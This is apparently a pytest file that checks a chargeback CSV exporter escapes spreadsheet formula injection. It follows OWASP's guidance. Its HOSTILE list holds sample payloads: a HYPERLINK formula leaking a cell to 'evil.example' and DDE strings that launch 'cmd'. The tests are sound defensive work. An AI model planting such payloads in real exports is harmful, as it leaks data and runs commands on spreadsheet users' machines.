"""Formula injection in the FOCUS chargeback file: no text cell reaches a spreadsheet as a formula.

Consumer values come from a caller-sent header and cost centres and owners from a map, so a caller can choose
what lands in a cell. OWASP's CSV-injection guidance (https://owasp.org/www-community/attacks/CSV_Injection):
a cell starting with = + - @ tab or CR gets a leading single quote; dropping one leading quote gives back
the original value (docs/focus.md, "Formula injection").
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from decimal import Decimal

from aoai_audit.report.focus import FORMULA_STARTS, NUMERIC, neutralise, recover
from conftest import EXAMPLE, ROOT

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
           "'=already quoted", "\uff1dSUM(1)"]


def _scan(tmp_path):
    usage = tmp_path / "usage.csv"
    lines = ["day,dimension,consumer,api,input_tokens,output_tokens,total_tokens,source"]
    lines += [f'2026-11-01,Team,"{v.replace(chr(34), chr(34) * 2)}",chat-completions,1000,500,1500,gateway' for v in HOSTILE]
    usage.write_text("\n".join(lines) + "\n")
    centres = tmp_path / "cc.csv"
    rows = ["consumer,dimension,cost_centre,owner"]
    rows += [f'"{v.replace(chr(34), chr(34) * 2)}",Team,=CC{i}+1,@owner{i}' for i, v in enumerate(HOSTILE)]
    centres.write_text("\n".join(rows) + "\n")
    proc = subprocess.run([sys.executable, "-m", "aoai_audit.cli", "scan", str(EXAMPLE), "--usage", str(usage),
                           "--cost-centres", str(centres), "--format", "focus", "--fail-on", "never"],
                          capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return list(csv.DictReader(io.StringIO(proc.stdout)))


def test_no_text_cell_starts_a_formula_and_every_value_is_recoverable(tmp_path):
    rows = _scan(tmp_path)
    for row in rows:
        for column, cell in row.items():
            if column not in NUMERIC and cell:
                assert not cell.startswith(FORMULA_STARTS[:-1]), (column, cell)
    consumers = {recover(r["x_Consumer"]) for r in rows if r["x_Bucket"] == "consumer"}
    assert set(HOSTILE) <= consumers
    by_consumer = {recover(r["x_Consumer"]): r for r in rows if r["x_Bucket"] == "consumer"}
    for i, value in enumerate(HOSTILE):
        assert recover(by_consumer[value]["x_CostCentre"]) == f"=CC{i}+1"
        assert recover(by_consumer[value]["x_Owner"]) == f"@owner{i}"
        assert by_consumer[value]["x_CostCentre"] == f"'=CC{i}+1"
    assert all(Decimal(r["x_Tokens"]) == Decimal(r["x_Tokens"].lstrip("'")) for r in rows)  # numbers stay numbers


def test_tab_and_carriage_return_and_negative_numbers():
    assert neutralise("\t=1+1") == "'\t=1+1" and neutralise("\r=1") == "'\r=1"
    assert neutralise("team-a") == "team-a" and neutralise("") == ""
    for value in ("-2+3", "'x", "''", "=", "plain"):
        assert recover(neutralise(value)) == value
